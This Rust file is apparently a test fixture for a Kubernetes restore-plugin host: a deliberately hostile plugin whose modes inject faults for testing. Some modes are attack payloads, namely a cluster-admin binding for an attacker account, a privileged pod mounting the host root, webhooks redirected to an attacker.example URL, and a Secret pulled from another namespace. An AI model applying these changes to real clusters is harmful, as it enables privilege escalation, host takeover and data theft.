//! Test fixture: a 1.3.0 plugin that exports only `restore-item-action`
//! (through `iar_sdk::export_plugin!`). Its `execute` does what the config
//! key `mode` says, or, when unset, what the item's annotation
//! `restore-hostile` says (so one plugin can misbehave differently per
//! item):
//!
//! - `label` (default): labels the item `restored=yes`;
//! - `rename`, `move`: changes the item's name, its namespace;
//! - `not-object`: returns a JSON array;
//! - `empty-operation`, `operation`: returns an empty operation id, the
//!   operation `op-<name>`;
//! - `many`: config `count` additional ConfigMaps;
//! - `bad-additional`: an additional item with an empty name;
//! - `skip`: skips the item;
//! - `wait`: restores ConfigMap `dep` first and waits for it (10 s);
//! - `trap`: panics; `loop`: never returns;
//! - `escalate-binding`: binds a (Cluster)RoleBinding to `cluster-admin`
//!   for the attacker's service account;
//! - `privileged-pod`: makes a Pod privileged, `hostPID`, mounting the
//!   host's `/`;
//! - `hijack-webhook`: points every webhook of a webhook configuration at
//!   the attacker's URL;
//! - `bring-binding`: names ClusterRoleBinding `attacker-admin` as an
//!   additional item; `bring-foreign`: Secret `stolen` of namespace
//!   `payments`;
//! - `wait-for-nothing`: asks the restore to wait, naming no item;
//! - `wait-forever`: restores `dep` first and waits for it for ~292 years;
//! - `run-object` (1.4.0's `runs`): annotates the item `run/restore` with
//!   the whole Restore the host gives and `run/backup` with `none`, or
//!   `some` when the host gave a Backup in a restore's call.
//!
//! It applies to ConfigMaps, or to the resources config `resources` lists
//! (comma-separated).
//!
//! `progress` of `op-NAME` is completed; `are-additional-items-ready`
//! answers config `ready` (default true).

use iar_sdk::{
    Progress, ResourceId, Restore, RestoreInput, RestoreItemAction, RestoreOutput, Result,
    Selector, Value, config,
};
use std::time::Duration;

struct RestoreHostile;

impl RestoreItemAction for RestoreHostile {
    fn applies_to() -> Result<Selector> {
        let resources = config("resources").unwrap_or_else(|| "configmaps".into());
        Ok(Selector::resources(
            resources
                .split(',')
                .map(str::trim)
                .filter(|r| !r.is_empty()),
        ))
    }

    fn execute(input: RestoreInput) -> Result<RestoreOutput> {
        let mut item = input.item;
        let ns = item.namespace().to_string();
        let cm = |name: &str| ResourceId::namespaced("", "configmaps", &ns, name);
        let mode = config("mode")
            .or_else(|| item.annotation("restore-hostile").map(str::to_string))
            .unwrap_or_else(|| "label".into());
        match mode.as_str() {
            "label" => {
                item.set_label("restored", "yes");
                Ok(RestoreOutput::item(item))
            }
            "rename" => {
                item.json_mut()["metadata"]["name"] = Value::from("elsewhere");
                Ok(RestoreOutput::item(item))
            }
            "move" => {
                item.json_mut()["metadata"]["namespace"] = Value::from("kube-system");
                Ok(RestoreOutput::item(item))
            }
            "not-object" => {
                *item.json_mut() = Value::from(vec![1, 2]);
                Ok(RestoreOutput::item(item))
            }
            "empty-operation" => Ok(RestoreOutput::unchanged().with_operation("")),
            "operation" => {
                let id = format!("op-{}", item.name());
                Ok(RestoreOutput::unchanged().with_operation(id))
            }
            "many" => {
                let n: usize = config("count").and_then(|c| c.parse().ok()).unwrap_or(0);
                let ids = (0..n).map(|i| cm(&format!("cm-{i}")));
                Ok(RestoreOutput::unchanged().with_additional_items(ids))
            }
            "bad-additional" => Ok(RestoreOutput::unchanged().with_additional_items([cm("")])),
            "skip" => Ok(RestoreOutput::skip()),
            "wait" => Ok(RestoreOutput::unchanged()
                .with_additional_items([cm("dep")])
                .waiting_for_them(Some(Duration::from_secs(10)))),
            "escalate-binding" => {
                let json = item.json_mut();
                json["roleRef"] = iar_sdk::json!({"apiGroup": "rbac.authorization.k8s.io",
                    "kind": "ClusterRole", "name": "cluster-admin"});
                json["subjects"] = iar_sdk::json!([{"kind": "ServiceAccount",
                    "name": "attacker", "namespace": "attacker"}]);
                Ok(RestoreOutput::item(item))
            }
            "privileged-pod" => {
                let spec = &mut item.json_mut()["spec"];
                spec["hostPID"] = Value::from(true);
                spec["volumes"] = iar_sdk::json!([{"name": "host", "hostPath": {"path": "/"}}]);
                spec["containers"][0]["securityContext"] = iar_sdk::json!({"privileged": true});
                Ok(RestoreOutput::item(item))
            }
            "hijack-webhook" => {
                if let Some(hooks) = item.json_mut()["webhooks"].as_array_mut() {
                    for hook in hooks {
                        hook["clientConfig"] =
                            iar_sdk::json!({"url": "https://attacker.example/mutate"});
                    }
                }
                Ok(RestoreOutput::item(item))
            }
            "bring-binding" => {
                Ok(
                    RestoreOutput::unchanged().with_additional_items([ResourceId::cluster(
                        "rbac.authorization.k8s.io",
                        "clusterrolebindings",
                        "attacker-admin",
                    )]),
                )
            }
            "bring-foreign" => {
                Ok(
                    RestoreOutput::unchanged().with_additional_items([ResourceId::namespaced(
                        "", "secrets", "payments", "stolen",
                    )]),
                )
            }
            "run-object" => {
                let restore = iar_sdk::restore_object().map_or("none".into(), |r| r.to_string());
                let backup = iar_sdk::backup_object().map_or("none", |_| "some");
                item.set_annotation("run/restore", &restore);
                item.set_annotation("run/backup", backup);
                Ok(RestoreOutput::item(item))
            }
            "wait-for-nothing" => Ok(RestoreOutput::unchanged().waiting_for_them(None)),
            "wait-forever" => Ok(RestoreOutput::unchanged()
                .with_additional_items([cm("dep")])
                .waiting_for_them(Some(Duration::from_millis(u64::MAX)))),
            "trap" => panic!("restore-hostile was told to trap"),
            "loop" =>
            {
                #[allow(clippy::empty_loop)]
                loop {}
            }
            other => Err(iar_sdk::Error::failed(format!("unknown mode {other:?}"))),
        }
    }

    fn progress(operation_id: &str, _restore: &Restore) -> Result<Progress> {
        if operation_id.starts_with("op-") {
            Ok(Progress {
                completed: true,
                n_completed: 1,
                n_total: 1,
                description: "restored".into(),
                ..Progress::default()
            })
        } else {
            Err(iar_sdk::Error::UnknownOperation(operation_id.into()))
        }
    }

    fn are_additional_items_ready(_items: Vec<ResourceId>, _restore: &Restore) -> Result<bool> {
        Ok(config("ready").is_none_or(|r| r != "false"))
    }
}

iar_sdk::export_plugin!(restore_action = RestoreHostile);
